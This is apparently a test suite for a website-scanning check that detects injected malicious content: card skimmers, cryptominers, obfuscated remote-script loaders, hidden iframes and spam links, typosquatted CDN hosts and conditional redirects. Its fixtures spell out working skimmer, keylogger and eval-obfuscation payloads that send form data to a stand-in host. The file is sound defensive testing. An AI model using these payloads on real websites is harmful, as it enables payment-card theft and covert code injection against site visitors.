import { describe, expect, it } from 'vitest';
import { injectedContent } from '@/lib/scans/checks/injected-content';
import { capturedPage } from './captured-page';

const ORIGIN = 'https://shop.test';
const FAR = 'cdn.far-7.example';
const shown = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><title>Lamps</title>${head}</head><body><h1>Lamps</h1><p>Welcome to our lamp shop</p>${body}</body></html>`;

function listConfidences(html: string, type = 'text/html') {
  const exchange = capturedPage({ url: `${ORIGIN}/`, body: html });
  const typed = {
    ...exchange,
    response: { ...exchange.response, headers: [['Content-Type', type] as const] },
  };
  const findings = injectedContent.run(typed, { origin: ORIGIN, isBehindLogin: false });
  return findings.map(({ titleKey, confidence }) => `${titleKey.split('.')[1]} ${confidence}`);
}
const script = (code: string) => `<script>${code}</script>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const codesOf = (text: string, key = 0) => [...text].map((char) => char.charCodeAt(0) ^ key).join(',');
const hexOf = (text: string) => Buffer.from(text).toString('hex');
const LOAD = `var s=document.createElement('script');s.src='//${FAR}/j.js';document.head.appendChild(s)`;
const WRITE = `document.write('<iframe src="http://${FAR}/" width=0 height=0></iframe>')`;

describe('what a script does for others', () => {
  it.each<[string, string, string]>([
    [
      'every field of the card is gathered under its name',
      `<form id="pay"><input name="cardnumber"><input name="cvv"></form>${script(`pay.onsubmit=function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});new Image().src='https://${FAR}/g.gif?d='+btoa(JSON.stringify(d))}`)}`,
      'skimmer CONFIRMED',
    ],
    [
      'a worker calculates, and a pool is told whom it pays',
      script(
        `var w=new Worker('/w.js'),s=new WebSocket('wss://pool.${FAR}/proxy');s.onopen=function(){s.send(JSON.stringify({method:'login',params:{login:'4${'A9bKw7'.repeat(15)}tRz2'}}))}`,
      ),
      'miner CONFIRMED',
    ],
    [
      'what is made is put together from parts, and so is the address',
      script(
        `var a='https:',b='//cdn.far',c='-7.example/z.js';var s=document['cre'+'ateElement']('scr'+'ipt');s['sr'+'c']=a+b+c;document.getElementsByTagName('head')[0].appendChild(s)`,
      ),
      'hiddenCode CONFIRMED',
    ],
  ])('%s', (_name, body, expected) => {
    expect(listConfidences(shown(body))).toEqual([expected]);
  });
});

describe('code that is hidden in other ways', () => {
  it.each<[string, string]>([
    [
      'each sign by another key',
      `var d=[${codesOf(LOAD, 42)}],o='';for(var i in d)o+=String.fromCharCode(d[i]^42);eval(o)`,
    ],
    [
      'a while loop over hex',
      `var h='${hexOf(LOAD)}',r='',i=0;while(i<h.length){r+=String.fromCharCode(parseInt(h.substr(i,2),16));i+=2}(0,eval)(r)`,
    ],
    [
      'map and join',
      `[${codesOf(WRITE)}].map(function(c){return String.fromCharCode(c)}).join('').replace(/.+/,function(x){window['ev'+'al'](x)})`,
    ],
    [
      'arrows and spread',
      `((...n)=>Function(n.map(c=>String.fromCodePoint(c)).join(''))())(${codesOf(LOAD)})`,
    ],
    ['apply', `setTimeout(String.fromCharCode.apply(null,[${codesOf(LOAD)}]),10)`],
    ['base64 of percent of base64', `eval(atob(unescape('${encodeURIComponent(base64(LOAD))}')))`],
    ['constructor of a function', `(function(){}).constructor(atob('${base64(LOAD)}'))()`],
    ['constructor of a list’s method', `[].filter.constructor(atob('${base64(LOAD)}'))()`],
    ['junk in between', `eval('${[...LOAD].join('@').replaceAll("'", "\\'")}'.split('@').join(''))`],
    ['junk that a pattern removes', `eval('${[...LOAD].join('~').replaceAll("'", "\\'")}'.replace(/~/g,''))`],
    [
      'the last part first',
      `var a=['${base64(LOAD).slice(20)}','${base64(LOAD).slice(0, 20)}'];a.push(a.shift());eval(atob(a.join('')))`,
    ],
    ['octal escapes', `eval("${[...LOAD].map((char) => `\\${char.charCodeAt(0).toString(8)}`).join('')}")`],
    [
      'points of code',
      `eval("${[...LOAD].map((char) => `\\u{${char.charCodeAt(0).toString(16)}}`).join('')}")`,
    ],
    [
      'only the address',
      `var s=document.createElement("script");s.src=atob("${base64(`https://${FAR}/x.js`)}");document.body.append(s)`,
    ],
    [
      'only the address, in an attribute',
      `var s=document.createElement("script");s.setAttribute("src","\\x2f\\x2f${[...FAR].map((c) => `\\x${hexOf(c)}`).join('')}/x.js");document.body.append(s)`,
    ],
    ['a redirect', `window["loc"+"ation"]["hr"+"ef"]=atob("${base64(`http://${FAR}/go`)}")`],
    [
      'a redirect after a while',
      `setTimeout(()=>location.replace(atob("${base64(`http://${FAR}/go`)}")),3e3)`,
    ],
    [
      'text of a script element',
      `var s=document.createElement('script');s.text=atob('${base64(LOAD)}');document.body.appendChild(s)`,
    ],
    [
      'an image that fails',
      `document.write(unescape('%3Cimg src=x onerror="${encodeURIComponent(`eval(atob('${base64(LOAD)}'))`).replaceAll("'", '%27')}"%3E'))`,
    ],
    [
      'inside of a switch, as obfuscators flatten it',
      `var o='2|0|1'.split('|'),i=0;while(true){switch(o[i++]){case'0':var c=atob(k);continue;case'1':eval(c);continue;case'2':var k='${base64(LOAD)}';continue}break}`,
    ],
    [
      'a table that is turned until a sum is right',
      `var t=['${base64(LOAD)}','MQ==','Mg=='];(function(a,n){while(--n){a.push(a.shift())}})(t,3);var g=function(i){return atob(t[i-7])};eval(g(8))`,
    ],
    ['jQuery', `$(function(){$('body').append(atob('${base64(`<script src="//${FAR}/a.js"></script>`)}'))})`],
    ['in front of an exception', `try{undefinedThing.x()}catch(e){eval(atob('${base64(LOAD)}'))}`],
    ['a class of its own', `class Z{};const z=\`\${atob('${base64(LOAD)}')}\`;new Function(z)()`],
  ])('%s', (_name, code) => {
    expect(listConfidences(shown(script(code)))).toContain('hiddenCode CONFIRMED');
  });

  it('in the attribute of an element', () => {
    expect(listConfidences(shown(`<svg onload="eval(atob('${base64(LOAD)}'))"></svg>`))).toContain(
      'hiddenCode CONFIRMED',
    );
  });

  it.each([
    `${'function menu(a){return a+1}\n'.repeat(12_000)}${`eval(atob('${base64(LOAD)}'))`}`,
    `eval(atob('${base64(LOAD)}'));${'function m(a){return a+1};'.repeat(12_000)}`,
  ])('at an end of a long script', (code) => {
    expect(listConfidences(code, 'application/javascript')).toContain('hiddenCode CONFIRMED');
  });
});

describe('frames that are hidden in other ways', () => {
  const frame = (attributes: string) => `<iframe src="https://${FAR}/in" ${attributes}></iframe>`;
  it.each<[string, string, string?]>([
    ['clipped', frame('style="position:absolute;clip:rect(0,0,0,0)"')],
    ['scaled away', frame('style="transform:scale(0)"')],
    [
      'by a rule with two parts',
      `<div class="w">${frame('')}</div>`,
      '<style>/* x */ div.w iframe, .z{visibility:hidden}</style>',
    ],
    ['by a rule for all frames', frame(''), '<style>iframe{position:fixed;top:-3000px}</style>'],
    ['moved by a transform', frame('style="position:fixed;transform:translate(-5000px,0)"')],
    ['with blanks and capitals', frame('STYLE=" Display : NONE !important "')],
    ['by an address of numbers', '<iframe src="http://203.0.113.9/a" id="x" width=1 height=1></iframe>'],
    [
      'by a script that restyles it',
      `<iframe id="q" src="https://${FAR}/"></iframe>${script("var e=document.getElementById('q');e.style.cssText='position:absolute;left:-4000px';")}<!-- -->`,
    ],
    [
      'with attributes of a script',
      script(
        `var f=document.createElement('IFRAME');f.setAttribute('src','http://${FAR}/');f.setAttribute('style','display:none');document.documentElement.appendChild(f)`,
      ),
    ],
    [
      'written into an element',
      script(
        `document.body.insertAdjacentHTML('beforeend','<iframe src="http://${FAR}/" height=0></iframe>')`,
      ),
    ],
    [
      'in parts',
      script(`document.write('<ifr'+'ame src="http://'+'${FAR}'+'/" wid'+'th=0 hei'+'ght=0></ifr'+'ame>')`),
    ],
    ['embedded', `<embed src="https://${FAR}/x.html" width="0" height="0">`],
  ])('%s', (_name, body, head = '') => {
    expect(listConfidences(shown(body, head)).join()).toMatch(/hiddenFrame/);
  });
});

describe('links that are hidden in other ways', () => {
  const links = ['casino-a.example', 'slots-b.example', 'poker-c.example', 'bets-d.example']
    .map((host) => `<a href="https://${host}/">${host.split('-')[0]} online</a>`)
    .join('');
  const plain = ['aa-one.example', 'bb-two.example', 'cc-three.example', 'dd-four.example']
    .map((host) => `<a href="https://${host}/">${host}</a>`)
    .join(' ');
  it.each<[string, string, string?]>([
    ['each by itself', links.replaceAll('<a ', '<a style="display:none" ')],
    ['by a class', `<div class="k9">${links}</div>`, '<style>.k9{position:absolute;top:-999em}</style>'],
    ['no height', `<div style="max-height:0;overflow:hidden">${links}</div>`],
    ['no words, letters of no size', `<div style="font-size:0">${plain}</div>`],
    ['no words, far outside', `<p style="position:absolute;left:-9999px">${plain}</p>`],
    ['colours written in two ways', `<p style="color:#FFFFFF;background-color:white">${links}</p>`],
    [
      'a rule that a script writes',
      `${script("document.write('<style>#lk{display:none}</style>')")}<div id="lk" style="text-indent:-9999px">${links}</div>`,
    ],
    [
      'hidden by jQuery’s style',
      `<div id="lk">${links}</div>${script("document.getElementById('lk').style.visibility='hidden'")}`,
    ],
    ['a frame of marquee', `<marquee width=1 height=4>${links}</marquee>`],
  ])('%s', (_name, body, head = '') => {
    expect(listConfidences(shown(body, head))).toContain('hiddenLinks CONFIRMED');
  });
});

const CARD = '<form><input name="card_number" id="n" autocomplete="cc-number"><input name="cvc"></form>';
describe('what is typed goes elsewhere in other ways', () => {
  it.each<[string, string]>([
    [
      'as a form',
      `document.forms[0].onsubmit=function(){fetch('https://${FAR}/c',{method:'POST',body:new FormData(this)})}`,
    ],
    [
      'by a loop over fields',
      `document.querySelectorAll('input').forEach(function(i){i.addEventListener('blur',function(){navigator.sendBeacon('https://${FAR}/c',i.value)})})`,
    ],
    ['by jQuery', `$('#pay').on('click',function(){$.post('https://${FAR}/c',{d:$('form').serialize()})})`],
    [
      'in the address',
      `setInterval(()=>{new Image().src=\`https://${FAR}/p.gif?\${btoa(document.getElementById('n').value)}\`},900)`,
    ],
    [
      'through a socket',
      `var w=new WebSocket('wss://${FAR}/s');document.getElementById('n').oninput=function(e){w.send(e.target.value)}`,
    ],
    ['key by key', `document.onkeyup=function(event){navigator.sendBeacon('https://${FAR}/k',event.key)}`],
  ])('%s', (_name, code) => {
    expect(listConfidences(shown(CARD + script(code)))).toContain('skimmer CONFIRMED');
  });
});

describe('hosts and places', () => {
  it.each<[string, string, string]>([
    ['a copied host', `<script src="https://cdn.jsdelivr.ne/npm/vue@3"></script>`, 'copiedHost LIKELY'],
    [
      'a copied host, two letters changed places',
      `<script src="https://ajax.googelapis.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script>`,
      'copiedHost CONFIRMED',
    ],
    [
      'a known host in another way',
      `<link rel="stylesheet" href="//cdn.bootcss.com/a.css">`,
      'hostileHost CONFIRMED',
    ],
    [
      'a known host that a script adds',
      script(
        "var s=document.createElement('script');s.src='https://polyfill.io/v3/polyfill.js';document.body.append(s)",
      ),
      'hostileHost CONFIRMED',
    ],
    [
      'a known release',
      '<script src="https://cdn.jsdelivr.net/npm/@lottiefiles/lottie-player@2.0.6/dist/lottie-player.js"></script>',
      'hostileHost CONFIRMED',
    ],
    [
      'a condition by an early return',
      script(
        `(function(){var r=document.referrer;if(r.indexOf('baidu')==-1)return;top.location.href='https://${FAR}/'})()`,
      ),
      'visitorRedirect CONFIRMED',
    ],
    [
      'a condition by a sign between values',
      script(
        `/(iphone|android)/i.test(navigator.userAgent.toLowerCase())&&(window.location.href='https://${FAR}/m')`,
      ),
      'visitorRedirect CONFIRMED',
    ],
    [
      'a condition by a choice',
      script(`var u=navigator.userAgent;location.href=u.match(/Mobile/)?'https://${FAR}/m':'/home'`),
      'visitorRedirect CONFIRMED',
    ],
    [
      'a condition by the width',
      script(`if(screen.width<768){location.assign('//${FAR}/')}`),
      'visitorRedirect CONFIRMED',
    ],
  ])('%s', (_name, body, expected) => {
    expect(listConfidences(shown(body))).toContain(expected);
  });

  it('a script behind the end, after a comment', () => {
    expect(listConfidences(`${shown('')}\n<!-- c --><script src='//${FAR}/a.js'></script>`)).toContain(
      'outsideDocument CONFIRMED',
    );
  });
  it('a title whose page speaks of lamps', () => {
    const html = shown('').replace('Lamps</title>', 'Online casino slots – best betting bonus</title>');
    expect(listConfidences(html)).toContain('foreignTitle CONFIRMED');
  });
});
